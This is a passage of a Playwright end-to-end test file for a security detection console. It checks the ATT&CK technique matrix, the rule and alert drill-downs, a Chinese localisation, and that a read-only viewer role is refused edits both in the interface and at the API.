  await expect.poll(() => page.locator('[data-testid=attack-fired]').textContent()).toContain('10 alerts since');
  await page.selectOption('[data-testid=attack-toolbar] select[name=show]', 'fired');
  await expect.poll(() => exec.locator('.matrix-cell:not(.matrix-subcell)').evaluateAll((cs) => cs.map((c) => (c as HTMLElement).dataset.technique))).toEqual(['T1059', 'T1053']);
  await shot('attack-matrix');

  // A cell: the technique, its rules and its alerts.
  await page.selectOption('[data-testid=attack-toolbar] select[name=show]', 'all');
  await page.selectOption('[data-testid=attack-toolbar] select[name=period]', '30d');
  await matrix.locator('.matrix-col[data-tactic=persistence] .matrix-cell[data-technique=T1053] .matrix-cell-main').click();
  await page.waitForURL((u) => u.searchParams.get('technique') === 'T1053');
  const drawer = page.locator('[data-testid=technique-drawer]');
  await expect.poll(() => drawer.locator('h2').innerText()).toBe('T1053 Scheduled Task/Job');
  expect(await drawer.locator('[data-testid=technique-subs] tr[data-technique="T1053.003"]').innerText()).toMatch(/Cron\s+2 enabled rules\s+2 alerts/);
  await expect.poll(() => drawer.locator('[data-testid=technique-rules] li').count()).toBe(2);
  await shot('attack-technique');
  await drawer.locator('a:has-text("Its rules (2)")').click();
  await page.waitForURL((u) => u.pathname === '/rules' && u.searchParams.get('technique') === 'T1053');
  await expect.poll(() => page.locator('[data-testid=rules-table] tbody tr').count()).toBe(2);
  await page.goBack();
  await page.waitForURL((u) => u.pathname === '/attack');
  await drawer.locator('a:has-text("Its alerts (2)")').click();
  await page.waitForURL((u) => u.pathname === '/alerts' && u.searchParams.get('technique') === 'T1053');
  const alerts = page.locator('[data-testid=alerts-table]');
  await expect.poll(() => alerts.locator('tbody tr').evaluateAll((rows) => rows.map((r) => (r as HTMLElement).dataset.alertId))).toEqual(['al-0105', 'al-0003']);
  expect(await page.locator('button[data-filter=technique]').textContent()).toContain('Technique T1053 · Scheduled Task/Job');
  await expect.poll(() => page.locator('[data-testid=alerts-since]').textContent()).toContain('Alerts raised since');
  await shot('technique-alerts');

  // In Chinese.
  await language(page, 'zh');
  await page.goto(`${server.url}/attack?technique=T1059.004`);
  await expect.poll(() => page.locator('[data-testid=technique-drawer] h2').innerText()).toBe('T1059.004 Unix Shell');
  expect(await page.locator('[data-testid=technique-drawer]').innerText()).toContain('上级技术');
  expect(await matrix.locator('.matrix-col[data-tactic=execution] .matrix-tactic').textContent()).toBe('执行');
  expect(await matrix.locator('.matrix-cell[data-technique=T1059] .matrix-name').textContent()).toBe('命令和脚本解释器');
  await shot('attack-zh');
  await page.keyboard.press('Escape');
  await page.locator('[data-testid=technique-drawer]').waitFor({ state: 'detached' });
  await page.waitForURL((u) => !u.searchParams.has('technique'));
  await language(page, 'en');
}

/** viewerWalk checks that a viewer reads detection but changes nothing. */
export async function viewerWalk(page: Page, server: Server, token: string): Promise<void> {
  await page.goto(`${server.url}/agents`);
  await signIn(page, { token });
  await page.goto(`${server.url}/incidents/inc-0002`);
  const handling = page.locator('[data-testid=incident-handling]');
  await handling.locator('.info-banner').waitFor();
  expect(await handling.locator('button[data-action=resolved]').isDisabled()).toBe(true);
  expect(await handling.locator('input[name=assignee]').isDisabled()).toBe(true);
  await page.goto(`${server.url}/rules/${reverseShell}`);
  const setting = page.locator('[data-testid=rule-setting]');
  await setting.locator('.info-banner').waitFor();
  expect(await setting.locator('button[data-action=disable]').isDisabled()).toBe(true);
  expect(await setting.locator('select[name=severity]').isDisabled()).toBe(true);
  expect(await page.locator('[data-testid=rule-new-exception]').isDisabled()).toBe(true);
  await page.goto(`${server.url}/rules`);
  await page.locator('[data-testid=rules-table]').waitFor();
  expect(await page.locator('[data-testid=import-rules]').isDisabled()).toBe(true);
  expect(await page.locator('[data-testid=import-rules]').getAttribute('title')).toBe('Needs the responder role or higher');
  await page.goto(`${server.url}/exceptions`);
  await page.locator('[data-testid=exceptions-table]').waitFor();
  expect(await page.locator('[data-testid=new-exception]').isDisabled()).toBe(true);
  expect(await page.locator('[data-testid=exceptions-table] button[data-action]').count()).toBe(0);
  await page.goto(`${server.url}/alerts/al-0102`);
  const drawer = page.locator('[data-testid=alert-drawer]');
  await drawer.locator('[data-testid=alert-rule] a').waitFor();
  expect(await drawer.locator('button[data-action=exception]').isDisabled()).toBe(true);
  // The center refuses what the console would not offer.
  const status = await page.evaluate(async () => {
    const s = JSON.parse(sessionStorage.getItem('vigil.session') ?? '{}') as { token?: string };
    const r = await fetch('/api/v1/rules/import', { method: 'POST', headers: { Authorization: `Bearer ${s.token}`, 'Content-Type': 'application/json' }, body: JSON.stringify({ files: [{ name: 'x.yml', content: 'title: x' }] }) });
    return r.status;
  });
  expect(status).toBe(403);
}
